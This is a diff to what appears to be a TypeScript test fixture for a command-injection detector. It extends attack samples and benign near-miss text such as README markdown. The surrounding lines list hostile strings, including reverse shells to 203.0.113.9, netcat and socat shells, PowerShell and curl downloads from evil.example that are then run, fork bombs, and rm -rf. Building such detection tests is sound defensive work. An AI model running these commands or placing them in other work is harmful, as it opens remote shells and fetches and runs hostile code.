@@ -15,7 +15,7 @@ const ATTACKS: Record<string, string[]> = {
   'reverse shells and redirection': ['d=/dev;(sh)0>$d/tcp/203.0.113.9/777', '>/tmp/payload', '>> /etc/cron.d/job'],
   'Windows cmd and PowerShell': ['i`e`x (iwr http://evil.example/a)', '&("i"+"ex") "calc"', '.("{0}{1}" -f "ie","x") calc', '$env:comspec /c whoami', '%COMSPEC:~-7,1%', 'set x=c& set y=md& call %x%%y%','c^m^d /c who^ami', '& p^owershell -enc SQBFAFgA','IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
   'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
-  'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891'],
+  'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891', '\r\nabc SEARCH SINCE 1-Feb-2024'],
   'PHP calls and evasions': [
     'system(whoami)', 'exec()', 'Please run phpinfo() on the box now', 'exec #comment\n (blah)', 'touch/*a\nb*/()', 'checkdate/*x*/()', 'FOOgzinflate()', 'curl_init()', '"system"(ls);', '(system)(ls);',
     "define('x', 'sys' . 'tem');(x)/* c */('uname');", "(z)[0][0]('uname');", '$__[$_[1]](7)', '$_aB_4c[@5]/*wat*/[@d] ()', '$ {@_.__}(31);', '$a //x\n()',
@@ -31,7 +31,7 @@ const ATTACKS: Record<string, string[]> = {
     ';$u wget evil.example/x', '|$a cat notes.txt', 'n$u\\c$u -lvp 4444', 'g=nc;$g evil.example 80', 'c1=c;c2=a;c3=t;$c1$c2$c3 notes.txt', 'a=/ec;b=ho;$a$b hi', "$'\\167\\150\\157\\141\\155\\151'", '$0 -c id',
     '${PATH:0:1}', 'cat ${HOME%/*}', '$((7*6))', '$[2+2]', 'echo ${x//a/b}',
   ],
-  'command chains': ['John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
+  'command chains': ['John (`whoami`)', '`id`, `whoami`', 'x `cat /etc/hostname`', 'John Smith `whoami`', 'Smith `whoami`', 'x`whoami`', 'abc`uname -a`','whoami;00', 'id & whoami', 'uname -a & whoami', 'whoami;','127.0.0.1 | id', 'example.com;w', 'socat tcp:203.0.113.9:80 exec:sh',';date -f secrets.txt', ';flock -u /', 'http://evil.example/x.php;lwp-download http://evil.example/a.jpg;perl a.jpg;rm -rf a.jpg'],
   'fork bombs, functions, netcat shells, sqlite3 dot-commands': [
     'f(){ f|f& };f', 'bomb() { bomb | bomb & }; bomb', 'x(){ x()|x(); }; x', 'r(){ curl -s evil.example/a|sh; };r', 'nc 203.0.113.9 4444 -e /bin/bash',
     'nc -e /bin/sh 203.0.113.9 4444', 'x; ncat 203.0.113.9 443 --sh-exec id', "1');\n.shell id", '1;.sh whoami', ';."system" id', 'x;\n.databases', 'cat+/et*/*wd',
@@ -76,7 +76,12 @@ const BENIGN: string[] = [
   'Mix: salt & ("pepper" + "oil")', 'Use `n`t for a tab in PowerShell', '$env:PATH is set', 'my %HOME% dir', 'a | b | more', 'socat is a relay tool', '$0 is the script name',
   'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
-  'ping 127.0.0.1', 'dig example.com', 'at /home/bob', 'head -to-head', 'Set -o history', 'more -ish', 'Hi\nQUIT', 'set -up', 'write -up', 'check -in', 'say \'-\' twice',
+  'ping 127.0.0.1', 'dig example.com', 'at /home/bob', 'head -to-head', 'Set -o history', 'more -ish', 'Hi\nQUIT', 'It is a\nsanity check (since it is cheap)', 'set -up', 'write -up', 'check -in', 'say \'-\' twice',
+  // README and issue-tracker markdown: spans on heading, quote and list lines, closing backticks, calls in spans
+  '# Installation\n> `npm install --save @types/node`', '### `yarn bootstrap`', '* `man sh`\n* `man bash`\n* `man 3 fnmatch`', '- In node.js: `npm install natural-compare-lite`',
+  '`diff(v1, v2)`: returns the difference', 'Install NPM modules needed for development:', 'Set `inlineValidators` to `true` to include the generated functions',
+  "`npm install base64-js` and `var base64js = require('base64-js')`", 'It is included as a\nsanity check (since `x` uses `y` under the hood)',
+  'works with the postgres tools (`psql`, `pg_dump`, `pg_restore`) and node', '> type: `(node: object) => string[]`', 'deprecated and changed to `require(\'fs\').constants` which does not browserify.',
   'function f() { return f() || g() }', 'count(){ return count() && 1 }', 'class A { load() { this.load() } }', 'nc is netcat; run nc -h for help',
   'Note that nc -e /bin/sh is disabled in the OpenBSD netcat we ship', '.output', '.tables { width: 100% }', 'In sqlite3 list them with .tables; .schema shows the DDL', 'C++/CLI or C#',
 ];
